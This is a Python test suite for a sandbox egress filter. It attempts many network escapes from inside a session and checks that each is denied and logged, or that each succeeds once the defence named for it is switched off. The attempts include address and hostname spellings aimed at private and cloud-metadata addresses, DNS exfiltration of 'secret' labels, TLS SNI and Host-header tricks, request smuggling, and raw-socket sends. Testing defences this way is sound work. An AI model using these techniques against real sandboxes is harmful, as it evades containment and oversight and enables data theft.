"""attacks BUILD [defended|holes]: the ways out of ESCAPES "Network", tried from inside of a session against servers that
would answer. `defended`: none gets through, and each is on record. `holes`: each gets through reeve-egress-holes without
the defence that its row names, so that the test would notice."""
import collections
import json
import pathlib
import sys
import textwrap
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "tools"))
import internet  # noqa: E402
import throwaway  # noqa: E402

BUILD = pathlib.Path(sys.argv[1])
HOW = sys.argv[2] if len(sys.argv) > 2 else "defended"
NETWORK = """[
    {"id": "test/web", "allow": {"hosts": ["web.reeve.test", "private.reeve.test", "metadata.reeve.test", "loopback.reeve.test",
                                           "mapped.reeve.test", "nat64.reeve.test", "sixtofour.reeve.test", "both.reeve.test"],
                                 "ports": [80, 443]}},
    {"id": "test/raw", "allow": {"hosts": ["web.reeve.test"], "ports": [7000]}, "verify": "address"},
    {"id": "test/asked", "ask": {"hosts": ["**.asked.test"]}},
    {"id": "test/inside", "deny": {"addresses": ["private", "loopback", "link-local", "metadata", "own"]}}
  ]"""

# What every attack has: through(what) says that it worked, stopped(what, why) that it did not.
PRELUDE = textwrap.dedent("""
    import http.client as http_client, os, socket, ssl, struct, subprocess
    def through(what): print(f"{what}: through", flush=True)
    def stopped(what, why): print(f"{what}: stopped: {why!r}", flush=True)
    def attempt(what, work):
        try:
            got = work()
        except (OSError, http_client.HTTPException) as error:
            return stopped(what, error)
        through(what) if got else stopped(what, "nothing came back")
    def tcp(host, port, timeout=20):
        return socket.create_connection((host, port), timeout=timeout)
    def curl(what, *arguments):
        done = subprocess.run(["curl", "-sS", "-f", "-m", "20", *arguments], capture_output=True, text=True)
        through(what) if done.returncode == 0 else stopped(what, done.stderr.strip())
    def http(host, request, port=80):
        def work():
            with tcp(host, port) as connection:
                connection.sendall(request)
                return connection.recv(4096)
        return work
    def query(name, kind=1):
        labels = b"".join(bytes([len(label)]) + label for label in name)
        return struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1)
    def asks(server, packet):
        def work():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                asker.settimeout(20)
                asker.sendto(packet, (server, 53))
                answer = asker.recv(4096)
                return answer[3] & 15 == 0 and answer[7]
        return work
    def tls(host, name, pieces=0):
        def work():
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
            talk = context.wrap_bio(into, out, server_hostname=name)
            with tcp(host, 443) as connection:
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                try:
                    talk.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                hello = out.read()
                for at in range(0, len(hello), pieces or len(hello)):
                    connection.sendall(hello[at:at + (pieces or len(hello))])
                return connection.recv(4096)
        return work
""")

Attack = collections.namedtuple("Attack", "code without", defaults=[()])
ATTACKS = {
    "literal_spellings": Attack("""
        for host in ("192.168.7.7", "3232237319", "0300.0250.07.07", "0xc0a80707", "192.168.1799", "[::ffff:192.168.7.7]",
                     "[::ffff:c0a8:707]", "[64:ff9b::c0a8:707]", "[2002:c0a8:707::1]", "169.254.169.254", "2852039166", "127.0.0.1:443",
                     "10.77.0.2", "93.184.216.20"):
            curl(host, f"http://{host}/hello")
        """, ("egress.policy", "egress.address")),
    "names_of_inside": Attack("""
        for name in ("private", "metadata", "loopback", "mapped", "nat64", "sixtofour"):
            curl(name, f"http://{name}.reeve.test/hello")
        """, ("egress.address",)),
    "name_spellings": Attack("""
        for name in ("denied.reeve.test", "denied.reeve.test.", "DENIED.reeve.test", "xn--web-5ka.reeve.test", "web.reeve.test.denied.reeve.test",
                     "xweb.reeve.test", "web_reeve.test"):
            curl(name, f"http://{name}/hello")
        """, ("egress.names", "egress.policy", "egress.address")),
    "nul_in_a_name": Attack("""
        attempt("in a label", asks("9.9.9.9", query([b"web\\0", b"reeve", b"test"])))
        attempt("a dot in a label", asks("9.9.9.9", query([b"denied.reeve.test\\0.web", b"reeve", b"test"])))
        attempt("in Host", http("web.reeve.test", b"GET /hello HTTP/1.1\\r\\nHost: web.reeve.test\\0.denied.reeve.test\\r\\n\\r\\n"))
        """),
    "server_name": Attack("""
        attempt("another", tls("web.reeve.test", "denied.reeve.test"))
        attempt("another, split", tls("web.reeve.test", "denied.reeve.test", 5))
        attempt("another, byte by byte", tls("web.reeve.test", "denied.reeve.test", 1))
        attempt("none", tls("web.reeve.test", None))
        attempt("no TLS at all", http("web.reeve.test", b"SSH-2.0-x\\r\\n", 443))
        """, ("egress.server_name",)),
    "host_header": Attack("""
        good = b"GET /hello HTTP/1.1\\r\\nHost: web.reeve.test\\r\\n"
        def one(request):
            return http("web.reeve.test", request)
        def second():
            connection = http_client.HTTPConnection("web.reeve.test", timeout=20)
            connection.request("GET", "/hello")
            connection.getresponse().read()
            connection.request("GET", "/hello", headers={"Host": "denied.reeve.test"})
            return connection.getresponse().read()
        attempt("another", one(b"GET /hello HTTP/1.1\\r\\nHost: denied.reeve.test\\r\\n\\r\\n"))
        attempt("absolute form", one(b"GET http://denied.reeve.test/hello HTTP/1.1\\r\\nHost: web.reeve.test\\r\\n\\r\\n"))
        attempt("two", one(good + b"Host: denied.reeve.test\\r\\n\\r\\n"))
        attempt("second request", second)
        attempt("CONNECT", one(b"CONNECT denied.reeve.test:443 HTTP/1.1\\r\\nHost: web.reeve.test\\r\\n\\r\\n"))
        attempt("upgrade", one(good + b"Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n"))
        attempt("smuggled", one(good + b"Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"))
        """, ("egress.host",)),
    "names_carry_data": Attack("""
        for at in range(20):
            try:
                socket.getaddrinfo(f"secret{at}.carried.test", 443)
                through("libc")
            except OSError as error:
                stopped("libc", error)
        attempt("at a server of its own", asks("8.8.8.8", query([b"secret", b"carried", b"test"])))
        attempt("TXT", asks("9.9.9.9", query([b"secret", b"carried", b"test"], 16)))
        curl("over https", "https://9.9.9.9/dns-query?name=secret.carried.test")
        """, ("egress.names",)),
    "datagrams": Attack("""
        def datagram(family, host, port):
            def work():
                with socket.socket(family, socket.SOCK_DGRAM) as sender:
                    return sender.sendto(b"secret", (host, port))
            return work
        for port in (443, 123, 5353, 65535):
            attempt(f"udp {port}", datagram(socket.AF_INET, "93.184.216.20", port))
        attempt("udp, version 6", datagram(socket.AF_INET6, "2606:2800:220:1::20", 443))
        for name, family, kind, protocol in (("ping", socket.AF_INET, socket.SOCK_DGRAM, 1), ("raw", socket.AF_INET, socket.SOCK_RAW, 1),
                                             ("sctp", socket.AF_INET, socket.SOCK_STREAM, 132), ("mptcp", socket.AF_INET, socket.SOCK_STREAM, 262),
                                             ("packet", 17, socket.SOCK_RAW, 0), ("udplite", socket.AF_INET, socket.SOCK_DGRAM, 136)):
            def work():
                with socket.socket(family, kind, protocol) as made:
                    made.settimeout(5)
                    if kind == socket.SOCK_STREAM:
                        made.connect(("93.184.216.20", 80))
                    else:
                        made.sendto(struct.pack(">BBHHH", 8, 0, 0xf7ff, 0, 0), ("93.184.216.20", 80))
                    return True
            attempt(name, work)
        """),
    "redirect_to_metadata": Attack("""
        curl("redirect", "-L", "http://web.reeve.test/redirect")
        """, ("egress.policy", "egress.address")),
    "asked_for": Attack("""
        curl("asked", "http://any.asked.test/hello")
        """),
    "the_door_itself": Attack("""
        seen = set()
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            for line in open(table).read().splitlines()[1:]:
                address, state = line.split()[1], line.split()[3]
                if state == "0A":
                    seen.add((":" in address and len(address) > 20, int(address.rsplit(":", 1)[1], 16)))
        for six, port in sorted(seen):
            attempt(f"door {port}", http("::1" if six else "127.0.0.1", b"GET /hello HTTP/1.1\\r\\nHost: web.reeve.test\\r\\n\\r\\n", port))
        stopped("all", len(seen))
        """),
}
UNRECORDED = {"datagrams", "the_door_itself"}  # they fail in the kernel


class Network(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.net = cls.enterClassContext(internet.Internet())
        helpers = {"reeve-egress": "reeve-egress-holes"} if HOW == "holes" else {}
        cls.reeve = cls.enterClassContext(throwaway.Reeve(BUILD, helpers=helpers))
        cls.set_network(NETWORK)
        cls.sink = cls.net.datagrams(443)

    @classmethod
    def set_network(cls, text):
        cls.reeve.stop()
        cls.reeve.vendor_policy.write_text(internet.vendor_policy(text))
        cls.reeve.start()

    def try_inside(self, code):
        """What is said of each way, and records of the session."""
        last = max((record["seq"] for record in self.reeve.records()), default=0)
        done = self.reeve.run("/usr/bin/python3", "-c", PRELUDE + textwrap.dedent(code))
        self.assertEqual(done.returncode, 0, done.stderr[-2000:])
        ways = dict(line.split(": ", 1) for line in done.stdout.splitlines())
        self.assertTrue(ways, done.stderr)
        return ways, [record for record in self.reeve.records() if record["seq"] > last]

    def attack(self, name):
        attack = ATTACKS[name]
        requests, queries = len(self.net.requests()), len(self.net.queries())
        ways, records = self.try_inside(attack.code)
        self.assertEqual({way: said for way, said in ways.items() if said == "through"}, {})
        allowed = {"web.reeve.test"} if name in ("host_header", "redirect_to_metadata") else set()
        self.assertLessEqual({request[0] for request in self.net.requests()[requests:]}, allowed)
        self.assertEqual([query for query in self.net.queries()[queries:]
                          if any(word in query for word in ("secret", "denied", "asked", "carried"))], [])
        with self.assertRaises(BlockingIOError):
            self.sink.recv(100)
        if name not in UNRECORDED:
            self.assertTrue(any(record["action"].startswith("network.") and record["outcome"] == "denied" for record in records),
                            [record for record in records if record["action"].startswith("network.")])

    def hole(self, name):
        attack = ATTACKS[name]
        self.reeve.libexec.joinpath("holes").write_text("".join(f"{hole}\n" for hole in attack.without))
        queries = len(self.net.queries())
        ways, _ = self.try_inside(attack.code)
        carried = any("secret" in query for query in self.net.queries()[queries:])
        self.assertTrue("through" in ways.values() or carried, ways)


def test_of(name):
    return lambda self: (self.hole if HOW == "holes" else self.attack)(name)


for each, its_attack in ATTACKS.items():
    if HOW == "defended" or its_attack.without:
        setattr(Network, f"test_{each}", test_of(each))


class Defended(Network):
    """What needs more than one session, or another policy."""

    def test_zz_an_empty_list_lets_nothing_out(self):
        self.set_network("[]")
        ways, _ = self.try_inside("""
            attempt("by name", lambda: tcp("web.reeve.test", 80))
            attempt("by address", lambda: tcp("93.184.216.10", 80))
            """)
        self.assertNotIn("through", ways.values())

    def test_a_relay_in_another_session(self):
        listening = self.reeve.spawn("/usr/bin/python3", "-c", textwrap.dedent("""
            import socket, sys
            listener = socket.create_server(("0.0.0.0", 9999))
            print("ready", flush=True)
            sys.stdin.read()
            """), stdin=-1, stdout=-1)
        self.assertEqual(listening.stdout.readline(), b"ready\n")
        ways, _ = self.try_inside("""
            for host in ("127.0.0.1", "198.18.0.1", "10.77.0.2"):
                attempt(host, http(host, b"x", 9999))
            """)
        listening.communicate()
        self.assertNotIn("through", ways.values())

    # An address belongs to one name: what is asked for first is what is reached, also after thousands of others.
    def test_ten_thousand_names(self):
        done = self.reeve.run("/usr/bin/python3", "-c", textwrap.dedent("""
            import json, socket
            def look(name): return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
            first = look("web.reeve.test")
            found = {}
            for at in range(10_000):
                found.setdefault(look(f"n{at}.asked.test"), []).append(at)
            print(json.dumps([len(found), max(map(len, found.values())), first in found, look("web.reeve.test") == first]))
            """))
        self.assertEqual(json.loads(done.stdout), [10_000, 1, False, True], done.stderr[-1000:])


if HOW != "defended":
    del Defended
else:
    del Network
internet.enter()
unittest.main(argv=sys.argv[:1])
